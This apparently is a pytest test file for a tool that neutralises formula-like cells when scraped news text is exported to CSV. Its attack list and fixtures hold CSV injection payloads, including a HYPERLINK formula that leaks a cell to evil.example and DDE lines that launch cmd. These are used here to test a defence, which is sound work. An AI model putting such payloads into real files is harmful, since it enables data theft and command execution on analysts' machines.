"""CSV exports open in a spreadsheet as data: no cell of article text can run as a formula.

A scraped line such as ``=HYPERLINK("http://evil.example","details")`` or ``@SUM(1+1)*cmd|' /C calc'!A0``
would execute when an analyst opens a CSV export in Excel or LibreOffice. ``safe_csv_frame`` puts an
apostrophe before every string cell that starts like a formula, writes list cells as JSON, and leaves
numbers, dates and booleans alone.
"""
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from analysis.export import FORMULA_STARTS, neutralise, safe_csv_frame, to_safe_csv_bytes

ROOT = Path(__file__).resolve().parent.parent
ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&A1,"details")', "+7 (495) 123-45-67", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1"]


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_formula_like_text_gets_a_leading_apostrophe():
    for attack in ATTACKS:
        assert neutralise(attack) == "'" + attack
    for harmless in ["Armenia", "“Quoted” words", " =not a formula after a space", "'already text", "", "3 May 2024"]:
        assert neutralise(harmless) == harmless


def test_every_string_cell_and_header_is_neutralised_and_numbers_stay_numbers():
    frame = pd.DataFrame({
        "text": pd.Series(ATTACKS, dtype="string"),
        "tension": [-0.5, 0.25, -1.0, 0.0, 0.1, -0.2, 0.3, -0.9],
        "position": range(len(ATTACKS)),
        "in_caption": [False] * len(ATTACKS),
        "=header": ["x"] * len(ATTACKS),
    })
    rows = cells(to_safe_csv_bytes(frame))
    assert rows[0] == ["text", "tension", "position", "in_caption", "'=header"]
    for row, attack, tension in zip(rows[1:], ATTACKS, frame["tension"]):
        assert row[0] == "'" + attack
        assert float(row[1]) == tension  # a negative number is still a number
    assert frame["text"].tolist() == ATTACKS, "the frame passed in is not changed"


def test_list_cells_become_json_and_nulls_stay_empty():
    import numpy as np

    frame = pd.DataFrame({
        "targets": [["=cmd|' /C calc'!A0", "Russia"], [], None, np.array(["CSTO", "@EU"], dtype=object)],
        "quote": ["-We will respond", None, pd.NA, "fine"],
        "published": pd.to_datetime(["2024-05-03", None, "2023-09-19", "2022-01-01"], utc=True),
    })
    out = safe_csv_frame(frame)
    assert json.loads(out.loc[0, "targets"]) == ["=cmd|' /C calc'!A0", "Russia"]
    assert out.loc[1, "targets"] == "[]" and pd.isna(out.loc[2, "targets"])
    assert json.loads(out.loc[3, "targets"]) == ["CSTO", "@EU"]
    assert out.loc[0, "quote"] == "'-We will respond" and pd.isna(out.loc[1, "quote"]) and pd.isna(out.loc[2, "quote"])
    assert out["published"].equals(frame["published"])
    rows = cells(to_safe_csv_bytes(frame))
    assert rows[2] == ["[]", "", ""]


def test_bytes_carry_a_bom_for_excel_and_read_back_with_pandas():
    frame = pd.DataFrame({"speaker": ["Мария Захарова", "Արարատ Միրզոյան"], "quote": ["=1", "ok"]})
    data = to_safe_csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert back["speaker"].tolist() == ["Мария Захарова", "Արարատ Միրզոյան"]
    assert back["quote"].tolist() == ["'=1", "ok"]
    assert not to_safe_csv_bytes(frame, excel_bom=False).startswith(b"\xef\xbb\xbf")


@settings(max_examples=60, deadline=None, derandomize=True, database=None)
@given(st.lists(st.one_of(st.text(max_size=12), st.sampled_from(ATTACKS)), min_size=1, max_size=8),
       st.lists(st.lists(st.one_of(st.text(max_size=6), st.sampled_from(ATTACKS)), max_size=3), min_size=1, max_size=8))
def test_no_exported_cell_ever_starts_like_a_formula(texts, lists):
    n = min(len(texts), len(lists))
    frame = pd.DataFrame({"text": texts[:n], "targets": lists[:n]})
    for row in cells(to_safe_csv_bytes(frame)):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), repr(cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_build_command_writes_safe_csv(tmp_path):
    corpus = tmp_path / "c"
    corpus.mkdir()
    (corpus / "attack.txt").write_text(
        "=HYPERLINK(\"http://evil.example\",\"Click\")\n\n"
        "Armenian Foreign Minister Ararat Mirzoyan said on 4 June 2025 that Yerevan \"-will not bow\" to pressure "
        "from Moscow.\n\n@Kremlin spokesman Dmitry Peskov said the remarks were \"+regrettable\".\n", encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "analysis", "build", str(corpus), "--out", str(tmp_path / "out"),
                           "--csv", "--workers", "1"], cwd=ROOT, capture_output=True, text=True, timeout=240)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    for name in ("articles.csv", "statements.csv"):
        rows = cells((tmp_path / "out" / name).read_bytes())
        assert len(rows) > 1
        for row in rows:
            for cell in row:
                if _is_number(cell):
                    continue  # numbers (a negative score) are written as numbers, which no spreadsheet runs
                assert not cell.startswith(FORMULA_STARTS), f"{name}: {cell[:40]!r}"
    articles = cells((tmp_path / "out" / "articles.csv").read_bytes())
    text_col = articles[0].index("text")
    assert articles[1][text_col].startswith("'=HYPERLINK")


def test_a_carriage_return_inside_a_cell_cannot_start_a_new_row(tmp_path):
    """pandas' default "\\n" line end leaves a bare CR unquoted; spreadsheets then split the row there."""
    from analysis.storage import write_csv_atomic

    frame = pd.DataFrame({"text": ["Yerevan said\r=HYPERLINK(\"http://evil.example\")", "calm"], "n": [1, 2]})
    write_csv_atomic(safe_csv_frame(frame), tmp_path / "out.csv")
    for data in (to_safe_csv_bytes(frame), (tmp_path / "out.csv").read_bytes()):
        rows = cells(data)
        assert len(rows) == 3
        assert rows[1][0] == "Yerevan said\r=HYPERLINK(\"http://evil.example\")"
        assert b'"Yerevan said\r=HYPERLINK' in data  # quoted, so the CR stays inside the cell
